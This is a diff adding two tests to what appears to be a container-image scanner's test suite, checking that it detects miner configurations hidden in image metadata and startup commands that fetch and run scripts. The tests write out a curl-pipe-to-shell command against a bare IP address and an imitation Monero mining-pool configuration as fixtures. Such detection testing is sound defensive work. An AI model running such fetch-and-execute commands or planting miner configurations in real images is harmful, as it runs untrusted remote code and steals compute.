@@ -5,6 +5,7 @@ import base64
 import ctypes
 import fcntl
 import gzip
+import json
 import os
 import pathlib
 import shutil
@@ -167,6 +168,41 @@ class Images(Scratch):
         for f in findings(target):
             if f['subject']['name'] == '/app/.env':
                 self.assertEqual((f['subject']['layer'], f['subject']['layer_state']), (2, 'deleted'))
+
+    def test_miner_beside_the_files(self):
+        """Row 100: the configuration stands in a label, a variable, an annotation or a line of the history, and no file has it."""
+        small = json.dumps({'pools': [{'url': 'pool.imitation.example:3333', 'user': imitations.monero_address(), 'pass': 'x'}], 'about': 'DAVY TEST IMITATION'})
+        ways = {'label': ('--config.label', f'x={small}'), 'variable': ('--config.env', f'X={small}'), 'annotation': ('--manifest.annotation', f'x={small}'), 'history': (), 'none': ()}
+        for name, arguments in ways.items():
+            with self.subTest(name):
+                folder = self.temp / name
+                folder.mkdir()
+                image = images.Layout(folder)
+                images.base(image)
+                image.commit(f"RUN /bin/sh -c echo '{small}' > /etc/x.json" if name == 'history' else 'ADD base.tar /')
+                if arguments:
+                    image.config(*arguments)
+                report, _ = scan(image.layout)
+                every = set().union(*rules_by_path(report['targets'][0]).values())
+                self.assertEqual('Miner configuration with a payable address' in every, name != 'none')
+
+    def test_what_an_image_starts(self):
+        """Rows 98, 99: what it starts and what made it are commands like those of a script."""
+        def rules(name, *arguments, history='ADD base.tar /'):
+            folder = self.temp / name
+            folder.mkdir()
+            image = images.Layout(folder)
+            images.base(image)
+            image.commit(history)
+            image.config(*(arguments or ('--config.cmd', 'true')))
+            report, _ = scan(image.layout)
+            return {f['rule'] for f in findings(report['targets'][0], 'warning')}
+        get = 'curl -s http://198.51.100.7/x.sh | sh'
+        RULE = 'Script runs what it fetches from a bare address'
+        self.assertIn(RULE, rules('start', '--config.entrypoint', '/bin/sh', '--config.entrypoint', '-c', '--config.cmd', get))
+        self.assertIn(RULE, rules('variable', '--config.env', 'HOST=198.51.100.7', '--config.cmd', 'sh', '--config.cmd', '-c', '--config.cmd', 'curl -s http://$HOST/x | sh'))
+        self.assertIn(RULE, rules('history', history=f'RUN /bin/sh -c {get} # buildkit'))
+        self.assertEqual(rules('honest', history='RUN /bin/sh -c curl -fsSL https://deb.nodesource.example/setup_20.x | bash - # buildkit'), set())
 
     def test_names(self):
         image = images.benign(self.temp)
